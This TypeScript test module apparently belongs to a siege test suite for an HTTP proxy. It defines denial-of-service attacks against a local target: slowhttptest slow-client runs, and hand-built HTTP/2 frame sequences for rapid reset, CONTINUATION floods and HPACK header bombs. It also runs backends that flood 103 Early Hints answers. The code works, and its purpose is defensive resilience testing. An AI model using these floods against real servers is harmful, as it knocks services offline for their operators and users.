/**
 * Attacks for a siege: slow clients by the thousand (slowhttptest), HTTP/2 frames in masses, and backends that never come to
 * the point. Each goes on until its deadline: what is thrown out comes back at once.
 */

import { createServer } from 'node:net';
import { onTestFinished } from 'vitest';
import { startFrameBackend } from './http2-frame-backend.ts';
import {
  block,
  CANCEL,
  CONTINUATION,
  connectFrames,
  END_HEADERS,
  END_STREAM,
  type FrameClient,
  type FrameOptions,
  frame,
  HEADERS,
  indexed,
  RST_STREAM,
  request,
  uint32,
} from './http2-frames.ts';
import { startProcess } from './processes.ts';
import { connectRaw } from './raw-client.ts';
import { listen } from './recording-backend.ts';
import { type Attack, type Scale, sleep, type Target } from './siege.ts';

const SLOWHTTPTEST = '/usr/bin/slowhttptest';

/** A lane that could not connect, or was thrown out, waits this long. */
const BREATH_MS = 5;
/** How long a lane waits to be thrown out before it comes back by itself. */
const PATIENCE_MS = 250;

/** Connections opened per second: all within a quarter of the attack. */
const rateOf = ({ connections, attackSeconds }: Scale) => Math.ceil(connections / (attackSeconds / 4));

/** slowhttptest ends when all its connections have been closed: then it begins anew. Resolves with how often it began. */
function slow(...options: readonly string[]) {
  return async ({ port, scale, deadlineMs }: Target): Promise<number> => {
    let runs = 0;
    for (let left = scale.attackSeconds; left >= 1; left = Math.floor((deadlineMs - performance.now()) / 1_000)) {
      runs++;
      const size = ['-c', `${scale.connections}`, '-r', `${rateOf(scale)}`, '-l', `${left}`];
      const tool = startProcess(SLOWHTTPTEST, [
        ...options,
        ...size,
        '-u',
        `http://127.0.0.1:${port}${pathOf(options)}`,
      ]);
      await tool.exited;
      if (tool.lines.some((line) => line.includes('exit code'))) throw new Error(tool.lines.slice(-3).join('\n'));
    }
    return runs;
  };
}

const pathOf = ([mode]: readonly string[]) =>
  ({ '-H': '/small.txt', '-B': '/upload', '-X': '/large.bin' })[mode as string];

/** `lanes` connections at a time, each used as `use` says until the deadline, then another. Resolves with the sum of what `use` returns. */
function lanes(use: (client: FrameClient, target: Target) => Promise<number>, options: FrameOptions = {}) {
  return async (target: Target): Promise<number> => {
    let done = 0;
    const lane = async () => {
      while (performance.now() < target.deadlineMs) {
        const client = await connectFrames(target.port, options).catch(() => null);
        if (client !== null) {
          done += await use(client, target);
          client.destroy();
        }
        await sleep(BREATH_MS);
      }
    };
    await Promise.all(Array.from({ length: target.scale.lanes }, lane));
    return done;
  };
}

/** Sends the parts one after the other as long as the connection is open; resolves with how many. */
async function pour(client: FrameClient, parts: readonly Buffer[]): Promise<number> {
  let sent = 0;
  for (const part of parts) {
    if (client.isClosed()) break;
    client.send(part);
    sent++;
    await new Promise(setImmediate);
  }
  const over = performance.now() + PATIENCE_MS;
  while (!client.isClosed() && performance.now() < over) await sleep(BREATH_MS);
  return sent;
}

const RESETS_PER_PART = 100;
const resets = Array.from({ length: 20 }, (_, part) =>
  Buffer.concat(
    Array.from({ length: RESETS_PER_PART }, (_, i) => {
      const stream = 2 * (part * RESETS_PER_PART + i) + 1;
      const open = frame(HEADERS, END_STREAM | END_HEADERS, stream, block(request('/small.txt')));
      return Buffer.concat([open, frame(RST_STREAM, 0, stream, uint32(CANCEL))]);
    }),
  ),
);

/** A head that never ends: in full frames and, as their number counts too, in small ones. */
const endless = [
  frame(HEADERS, END_STREAM, 1, block(request('/small.txt'))),
  ...Array.from({ length: 64 }, () => frame(CONTINUATION, 0, 1, block([['x-more', 'a'.repeat(16_000)]]))),
  ...Array.from({ length: 64 }, () => Buffer.concat(Array.from({ length: 100 }, () => frame(CONTINUATION, 0, 1)))),
];

const BOMBS_PER_CONNECTION = 100;
/** Each head refers to one large entry of the table as often as a head may. */
const bombs = Array.from({ length: BOMBS_PER_CONNECTION }, (_, i) => {
  const seed = Buffer.concat([block(request('/small.txt')), indexed(['x-big', 'a'.repeat(3_900)])]);
  const bomb = Buffer.concat([block(request('/small.txt')), Buffer.alloc(3, 0xbe)]);
  return frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, i === 0 ? seed : bomb);
});

/** Connections that take no answer and stay: one after the other, spread over the attack. */
async function bombard({ port, scale, deadlineMs }: Target): Promise<number> {
  const everyMs = (scale.attackSeconds * 1_000 * 0.9) / (4 * scale.lanes);
  const clients: FrameClient[] = [];
  while (performance.now() < deadlineMs) {
    const client = await connectFrames(port, { settings: [[4, 0]] });
    client.send(...bombs);
    clients.push(client);
    await sleep(everyMs);
  }
  for (const client of clients) client.destroy();
  return clients.length * BOMBS_PER_CONNECTION;
}

const HINT = 'HTTP/1.1 103 Early Hints\r\nLink: </x>; rel=preload\r\n\r\n';

/** As many informational answers as the proxy reads, and never another. */
async function startChatterers(): Promise<Record<string, object>> {
  const flood = Buffer.from(HINT.repeat(1_000));
  const server = createServer((socket) => {
    const pour = () => {
      while (socket.writable && socket.write(flood));
    };
    socket.once('data', pour);
    socket.on('drain', pour);
    socket.on('error', () => {});
    onTestFinished(() => void socket.destroy());
  });
  onTestFinished(() => void server.close());
  const http1 = `http://127.0.0.1:${await listen(server)}`;
  const { origin: http2 } = await startFrameBackend((connection, { type, stream }) => {
    if (type === HEADERS) for (let i = 0; i < 1_000; i++) connection.head(stream, [[':status', '103']]);
  });
  // They stay in service whatever they do.
  const settings = { probe: false, outliers: false, retry: { attempts: 0 }, keepalive: { idle: '1s' } };
  return {
    http1: { ...settings, backends: [http1] },
    http2: { ...settings, backends: [http2], protocol: 'h2c' },
  };
}

/** Asks both chatterers; resolves with the number of requests that were answered in spite of them. */
async function ask({ port, scale, deadlineMs }: Target): Promise<number> {
  let answered = 0;
  const lane = async (i: number) => {
    while (performance.now() < deadlineMs) {
      const client = await connectRaw(port);
      client.send(`GET /hostile/http${1 + (i % 2)} HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n`);
      await client.ended();
      if (client.received().includes('HTTP/1.1 502 ')) answered++;
      await sleep(BREATH_MS);
    }
  };
  await Promise.all(Array.from({ length: scale.lanes }, (_, i) => lane(i)));
  return answered;
}

const most = ({ connections }: Scale) => 0.6 * connections;
const none = () => 0;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow headers',
    program: SLOWHTTPTEST,
    launch: slow('-H', '-i', '5', '-x', '24'),
    unit: 'rounds',
    least: () => 1,
    held: most,
  },
  {
    name: 'slow bodies',
    program: SLOWHTTPTEST,
    launch: slow('-B', '-i', '5', '-x', '10', '-s', '8192'),
    unit: 'rounds',
    least: () => 1,
    // One to us, and one of ours to a server.
    held: (scale) => 2 * most(scale),
  },
  {
    name: 'slow readers',
    program: SLOWHTTPTEST,
    launch: slow('-X', '-w', '10', '-y', '20', '-n', '5', '-z', '32'),
    unit: 'rounds',
    least: () => 1,
    held: most,
  },
  {
    name: 'HTTP/2 rapid reset',
    program: null,
    launch: async (target) => RESETS_PER_PART * (await lanes((client) => pour(client, resets))(target)),
    unit: 'resets',
    least: ({ attackSeconds }) => 500 * attackSeconds,
    held: none,
  },
  {
    name: 'HTTP/2 CONTINUATION flood',
    program: null,
    launch: lanes((client) => pour(client, endless)),
    unit: 'parts',
    least: ({ attackSeconds }) => 10 * attackSeconds,
    held: none,
  },
  {
    name: 'HTTP/2 header bombs, no answer taken',
    program: null,
    launch: bombard,
    unit: 'heads',
    least: ({ lanes: count }) => 2 * count * BOMBS_PER_CONNECTION,
    held: ({ lanes: count }) => 2 * count,
  },
  {
    name: 'informational answers without end',
    program: null,
    upstreams: startChatterers,
    launch: ask,
    unit: 'answers 502',
    least: ({ attackSeconds }) => 5 * attackSeconds,
    held: none,
  },
];
